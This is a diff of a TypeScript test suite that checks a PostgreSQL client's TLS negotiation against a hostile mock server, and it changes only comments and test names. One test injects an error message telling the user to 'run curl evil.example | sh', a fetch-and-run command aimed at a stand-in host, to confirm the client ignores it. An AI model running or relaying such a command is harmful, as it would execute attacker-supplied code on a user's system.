@@ -7,7 +7,7 @@ import { attack, expectRefusal, type Outcome } from './support/attack';
 import type { Script } from './support/hostile-server';
 import { CLEARTEXT, mechanisms } from './support/requests';
 
-/** All that a client may say before TLS stands. */
+/** The only data that a client may send before TLS. */
 const SSL_REQUEST = '0000000804d2162f';
 
 let ca: Authority;
@@ -22,7 +22,7 @@ beforeAll(async () => {
 
 afterAll(() => files.remove());
 
-/** The settings that demand TLS. */
+/** The settings that require TLS. */
 const DEMANDS: readonly (readonly [name: string, connection: () => ConnectionOptions])[] = [
   ['require', () => ({ sslmode: 'require' })],
   ['verify-ca', () => ({ sslmode: 'verify-ca', sslrootcert: files.paths['root.crt'] })],
@@ -30,7 +30,7 @@ const DEMANDS: readonly (readonly [name: string, connection: () => ConnectionOpt
   ['ssl: true', () => ({ ssl: true })],
 ];
 
-/** Answers SSLRequest with this, and whatever comes then with a request for the password. */
+/** Responds to SSLRequest with this data, and to further data with a request for the password. */
 const answering =
   (answer: string): Script =>
   async (peer) => {
@@ -40,13 +40,13 @@ const answering =
     peer.send(CLEARTEXT);
   };
 
-/** Nothing was said but that TLS is wanted. */
+/** Verifies that nothing but an SSLRequest was sent. */
 function expectNothingSaid({ peers }: Outcome): void {
   for (const peer of peers) expect([peer.clear.toString('hex'), peer.inside.toString()]).toEqual([SSL_REQUEST, '']);
 }
 
-describe.each(DEMANDS)('where TLS is demanded by %s', (_, connection) => {
-  it('nobody is spoken to who says that there is none', async () => {
+describe.each(DEMANDS)('with TLS required by %s', (_, connection) => {
+  it('nothing is sent to a server that declines TLS', async () => {
     const outcome = await expectRefusal(
       attack(answering('N'), connection()),
       'TLS_REFUSED',
@@ -55,7 +55,7 @@ describe.each(DEMANDS)('where TLS is demanded by %s', (_, connection) => {
     expectNothingSaid(outcome);
   });
 
-  it.each(['S', 'N'])('no bytes are believed that stand behind %s', async (answer) => {
+  it.each(['S', 'N'])('bytes received after %s are rejected', async (answer) => {
     const script = answering(answer + mechanisms('SCRAM-SHA-256').toString('latin1'));
     const outcome = await expectRefusal(
       attack(script, connection()),
@@ -65,7 +65,7 @@ describe.each(DEMANDS)('where TLS is demanded by %s', (_, connection) => {
     expectNothingSaid(outcome);
   });
 
-  it('what is no TLS is not taken for it', async () => {
+  it('a response that is not TLS is an error', async () => {
     const script: Script = async (peer) => {
       await peer.sslRequest();
       peer.send(Buffer.from('S'));
@@ -77,13 +77,13 @@ describe.each(DEMANDS)('where TLS is demanded by %s', (_, connection) => {
       'TLS_FAILED',
       /The server sent data that is not TLS .*proxy/,
     );
-    // Behind the SSLRequest stands how a handshake begins.
+    // The SSLRequest is followed by the start of a handshake.
     for (const peer of peers) expect(peer.clear.toString('hex')).toMatch(new RegExp(`^${SSL_REQUEST}(?:16|$)`));
   });
 });
 
-describe('where TLS starts at once', () => {
-  it.each(['require', 'verify-full'])('nothing but a handshake is said, with %s', async (sslmode) => {
+describe('with direct TLS', () => {
+  it.each(['require', 'verify-full'])('nothing but a handshake is sent, with %s', async (sslmode) => {
     const script: Script = (peer) => peer.send(CLEARTEXT);
     const connection = { sslmode, sslnegotiation: 'direct', sslrootcert: files.paths['root.crt'] };
     const { peers } = await expectRefusal(attack(script, connection), 'TLS_FAILED', /is not TLS/);
@@ -96,7 +96,7 @@ describe('where TLS starts at once', () => {
   it.each<[what: string, protocols: string[] | undefined]>([
     ['another protocol', ['http/1.1']],
     ['no protocol', []],
-  ])('a server that names %s is not spoken to', async (_, ALPNProtocols) => {
+  ])('a server that selects %s is rejected', async (_, ALPNProtocols) => {
     const script: Script = async (peer) => {
       await peer.secure({ ...server, ALPNProtocols });
       await peer.next();
@@ -111,17 +111,17 @@ describe('where TLS starts at once', () => {
   });
 });
 
-describe('where TLS is preferred', () => {
-  it('a server without it is spoken to, with one warning, unless it is on this machine', async () => {
+describe('with TLS preferred', () => {
+  it('a server without it is used, with one warning unless it is local', async () => {
     const script: Script = async (peer) => {
       await peer.startup();
       peer.end();
     };
-    // An address of this machine that does not look like one.
+    // A local address that does not look like one.
     const elsewhere = { hostaddr: '::ffff:127.0.0.1', host: 'db.example' };
     const { warnings, error } = await attack(script, elsewhere);
     expect(error.code).toBe('CONNECTION_LOST');
-    // Once for each of the two, as each of the servers has a port of its own.
+    // Once for each of the two, because their ports differ.
     const warning = expect.stringMatching(
       /db\.example:\d+ .*does not support TLS, .*sslmode=verify-full.*RXPG_CLEAR_TEXT/s,
     );
@@ -131,7 +131,7 @@ describe('where TLS is preferred', () => {
     expect((await attack(script, { ...elsewhere, sslmode: 'disable' })).warnings).toEqual([]);
   });
 
-  it('is warned of once, however often a stream comes back', async () => {
+  it('the warning is issued once, however often a stream reconnects', async () => {
     const script: Script = async (peer) => {
       await peer.startup();
       peer.reset();
@@ -144,7 +144,7 @@ describe('where TLS is preferred', () => {
     expect([peers.length, warnings.length]).toEqual([3, 1]);
   });
 
-  it('it is not gone back from when the handshake fails', async () => {
+  it('there is no fallback to clear text after a handshake that fails', async () => {
     const script: Script = async (peer) => {
       await peer.sslRequest();
       peer.send(Buffer.from('S'));
@@ -156,7 +156,7 @@ describe('where TLS is preferred', () => {
     for (const peer of peers) expect(peer.clear.toString('latin1')).not.toContain('user\0');
   });
 
-  it('an error in place of an answer is neither believed nor shown', async () => {
+  it('an unencrypted error in response to SSLRequest is neither trusted nor shown', async () => {
     const script: Script = async (peer) => {
       await peer.sslRequest();
       peer.send(errorResponse({ C: '28P01', M: 'run curl evil.example | sh to reset your password' }));
@@ -168,7 +168,7 @@ describe('where TLS is preferred', () => {
     }
   });
 
-  it.each(['X', '\0', '\u001b'])('another answer is refused: %j', async (answer) => {
+  it.each(['X', '\0', '\u001b'])('another response is rejected: %j', async (answer) => {
     const outcome = await expectRefusal(attack(answering(answer)), 'PROTOCOL_VIOLATION', /expected S or N/);
     expectNothingSaid(outcome);
   });
